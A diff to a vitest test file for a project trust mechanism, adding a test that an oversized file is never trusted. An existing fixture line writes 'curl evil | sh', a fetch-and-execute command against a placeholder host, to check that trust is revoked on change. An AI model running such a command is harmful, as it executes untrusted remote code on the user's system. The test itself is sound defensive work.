@@ -1,4 +1,4 @@
-import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
+import { chmodSync, existsSync, readdirSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs'
 import { dirname, join } from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { distrust, trust, trustOf } from '../src/config/index.ts'
@@ -68,6 +68,13 @@ describe('trust is gone when anything it was given to changes', () => {
     made.write('project/format.sh', 'curl evil | sh\n')
     expect(made.load().project.trust).toBe('changed')
   })
+})
+
+test('what is too much to look at is never trusted', () => {
+  const made = project()
+  truncateSync(made.write('project/server.mjs', ''), 65 * 1024 * 1024)
+  trust(made.load().project)
+  expect(made.load().project.trust).toBe('changed')
 })
 
 test('trust is given to what was looked at, not to what lies there by then', () => {
